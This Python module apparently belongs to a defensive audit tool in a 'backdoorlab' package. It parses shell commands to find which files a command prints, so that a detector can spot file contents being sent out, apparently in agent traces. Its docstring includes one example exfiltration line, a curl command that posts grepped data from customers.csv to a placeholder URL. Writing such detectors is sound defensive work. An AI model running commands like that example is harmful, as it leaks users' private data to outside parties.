"""Which words of a command name the files whose *content* it prints: ``cat f``, ``head
-n 5 f``, ``base64 -w0 f``, ``grep -i visa f`` (not ``visa``: a pattern), ``jq .x f``.

`shell_inline` asks this of a command substitution (``curl -d "$(grep visa
customers.csv)" URL``): the files named here leave by reference, as ``curl -d @f`` sends
one, when the trace never showed their text. Only programs whose output is the files'
text, whole or in part, are read — ``wc``, ``md5sum`` or ``stat`` print something *about*
a file, and a program not listed here prints what it likes — and only words that look
like paths (a ``/``, a dot inside, ``~``): an option's value (``-n 5``, ``-d ,``) or an
awk program is no file. Hand-written, not `shlex`-based argument parsing: no library
knows each program's options; what is kept is the small part that tells a file from a
pattern, an option's value or a count.
"""

from __future__ import annotations

import re

from backdoorlab.defenses.audit.shell_parse import Stage, program

_VALUED: dict[str, str] = {
    "head tail": "-n -c --lines --bytes",
    "cut": "-d -f -c -b --delimiter --fields --characters --bytes",
    "sort": "-k -t -o -S -T --key --field-separator --output",
    "uniq": "-f -s -w",
    "base64 base32 basenc": "-w --wrap",
    "xxd": "-l -s -c -g -o",
    "od": "-A -t -N -j -w",
    "hexdump": "-n -s -e",
    "fold fmt": "-w --width",
    "nl": "-b -n -w -s -v -i",
    "column": "-s -c",
    "strings": "-n -t",
    "iconv": "-f -t",
    "cat tac rev less more expand unexpand paste gzip gunzip zcat bzip2 bzcat xz": "-S -d -t",
    "xzcat zstd zstdcat lz4 dos2unix": "-o",
    "grep egrep fgrep rg ag ack": "-A -B -C -m --max-count --after-context "
    "--before-context --context",
    "sed": "-l",
    "awk gawk mawk": "-F -v",
    "jq yq": "--arg --argjson --slurpfile --rawfile --indent",
}
"""Each program whose output is the text of the files it is given (printed, encoded,
compressed or filtered), with its options whose value is the next word (``head -n 5``,
``cut -d , -f 2``): the word after one is never taken for a file."""

_OPTIONS = {
    name: frozenset(opts.split()) for names, opts in _VALUED.items() for name in names.split()
}

_PATTERN_FIRST = frozenset(
    ("grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk", "mawk", "jq", "yq")
)
"""Programs whose first operand is a pattern, a script or a filter, unless an option
gave it (``grep -e P f``, ``sed -e S f``, ``awk -f prog.awk f``)."""

_GIVES_PATTERN = frozenset(("-e", "-f", "--regexp", "--file", "--expression", "--from-file"))
_TWO_VALUES = frozenset(("--arg", "--argjson", "--slurpfile", "--rawfile"))  # jq's NAME VALUE
_STDIN_ONLY = frozenset(("tr",))  # reads no file operand: only ``< f``

_PATHLIKE = re.compile(r"[/~]|\w\.\w")


def content_files(stage: Stage) -> list[str]:
    """The files whose text one command of a pipeline prints (see the module docstring):
    its ``< f`` and its file operands. A stage of no program (``$(< f)``) prints ``f``."""
    words = program(stage.words)
    name = words[0].rsplit("/", 1)[-1] if words else ""
    if words and name not in _OPTIONS and name not in _STDIN_ONLY:
        return []
    found = [stage.fed] if stage.fed else []
    if not words or name in _STDIN_ONLY:
        return found
    valued = _OPTIONS[name]
    operands: list[str] = []
    skip, given, ended = 0, False, False
    for word in words[1:]:
        if skip:
            skip -= 1
        elif ended or word == "--":  # after ``--`` every word is an operand
            operands += [word] if ended else []
            ended = True
        elif word in _GIVES_PATTERN and name in _PATTERN_FIRST:
            skip, given = 1, True  # its value is the pattern (or the script's file)
        elif word.startswith("-") and len(word) > 1:
            skip = 2 if word in _TWO_VALUES else int(word in valued)
        else:
            operands.append(word)
    if name in _PATTERN_FIRST and not given:
        operands = operands[1:]
    return found + [w for w in operands if w not in (".", "..") and _PATHLIKE.search(w)]
